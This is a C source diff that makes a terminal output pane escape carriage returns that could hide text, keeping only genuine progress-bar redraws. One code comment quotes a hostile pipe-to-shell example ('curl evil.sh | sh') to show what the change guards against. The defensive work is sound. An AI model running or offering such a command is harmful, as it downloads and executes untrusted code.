@@ -56,29 +56,81 @@ fmt_escape_buf(struct buf *b, const char *s, size_t len)
 	    (fmt_ascii_only ? DISPLAY_ASCII : 0));
 }
 
+/*
+ * Does segment a (before a carriage return) look like what b (after it)
+ * redraws: a progress bar or counter? Then a terminal shows b where a
+ * was and so does the pane. It is one when b covers all of a (at least as
+ * many bytes, not counting trailing blanks) and either half of a's bytes
+ * are b's at the same places, or a holds no letters (percentages,
+ * spinners, bars). Anything else would hide text the operator should see
+ * ("curl evil.sh | sh\rls -la" drawn as "ls -la"): the pane shows both,
+ * the carriage return as \r.
+ */
+static bool
+fmt_redraws(const char *a, size_t alen, const char *b, size_t blen)
+{
+	size_t	i, same = 0;
+	bool	letters = false;
+
+	while (alen > 0 && a[alen - 1] == ' ')
+		alen--;
+	while (blen > 0 && b[blen - 1] == ' ')
+		blen--;
+	if (blen < alen)
+		return false;
+	for (i = 0; i < alen; i++) {
+		unsigned char c = (unsigned char)a[i];
+
+		if (c == b[i])
+			same++;
+		if (c >= 0x80 || (c >= 'a' && c <= 'z') ||
+		    (c >= 'A' && c <= 'Z'))
+			letters = true;
+	}
+	return !letters || 2 * same >= alen;
+}
+
 /* One output line as a terminal would leave it, made safe to print. */
 void
 fmt_output_line(struct buf *b, const char *s, size_t len)
 {
-	struct buf	 t = BUF_INIT;
-	const char	*cr;
-	size_t		 i, col;
+	struct buf	 c = BUF_INIT, u = BUF_INIT, t = BUF_INIT;
+	const char	*cr, *next, *end;
+	size_t		 i, col, seg, nlen;
 
-	/* A progress bar redraws with \r: keep what was drawn last. */
-	while (len > 0 && s[len - 1] == '\r')
-		len--;
-	if ((cr = memrchr(s, '\r', len)) != NULL) {
-		len -= (size_t)(cr + 1 - s);
-		s = cr + 1;
-	}
+	/* Colour and cursor sequences (CSI: parameters, intermediates,
+	   one final byte) go first. */
 	for (i = 0; i < len; i++) {
 		if (s[i] == 0x1b && i + 1 < len && s[i + 1] == '[') {
-			/* CSI: parameters and intermediates, one final byte. */
 			for (i += 2; i < len && ((unsigned char)s[i] < 0x40 ||
 			    (unsigned char)s[i] > 0x7e); i++)
 				;
 			continue;
 		}
+		buf_putc(&c, s[i]);
+	}
+	s = c.data != NULL ? c.data : "";
+	len = c.len;
+	/* A progress bar redraws with \r: keep what was drawn last where
+	   it covers what it replaces; any other \r stays, escaped. */
+	while (len > 0 && s[len - 1] == '\r')
+		len--;
+	for (i = 0; i < len; i = (size_t)(cr - s) + 1) {
+		if ((cr = memchr(s + i, '\r', len - i)) == NULL) {
+			buf_add(&u, s + i, len - i);
+			break;
+		}
+		seg = (size_t)(cr - s) - i;
+		next = cr + 1;
+		nlen = len - (size_t)(next - s);
+		if ((end = memchr(next, '\r', nlen)) != NULL)
+			nlen = (size_t)(end - next);
+		if (!fmt_redraws(s + i, seg, next, nlen))
+			buf_add(&u, s + i, seg + 1);
+	}
+	s = u.data != NULL ? u.data : "";
+	len = u.len;
+	for (i = 0; i < len; i++) {
 		if (s[i] == '\t') {
 			col = fmt_width_n(t.data != NULL ? t.data : "", t.len);
 			do
@@ -89,7 +141,27 @@ fmt_output_line(struct buf *b, const char *s, size_t len)
 		buf_putc(&t, s[i]);
 	}
 	fmt_escape_buf(b, t.data != NULL ? t.data : "", t.len);
+	buf_release(&c);
+	buf_release(&u);
 	buf_release(&t);
+}
+
+/* Is s safe to print as it is (escaped already, or typed clean)? */
+bool
+fmt_is_safe(const char *s)
+{
+	return display_is_safe(s, strlen(s), DISPLAY_WIDTH |
+	    (fmt_ascii_only ? DISPLAY_ASCII : 0));
+}
+
+/* Text the operator typed, to show back: as typed when that is safe,
+   escaped otherwise (a prompt pre-filled with an agent's text). */
+char *
+fmt_typed(const char *s)
+{
+	if (s == NULL)
+		s = "";
+	return fmt_is_safe(s) ? xstrdup(s) : fmt_escape(s);
 }
 
 /* fmt_escape_buf() of a string, as a new string. */
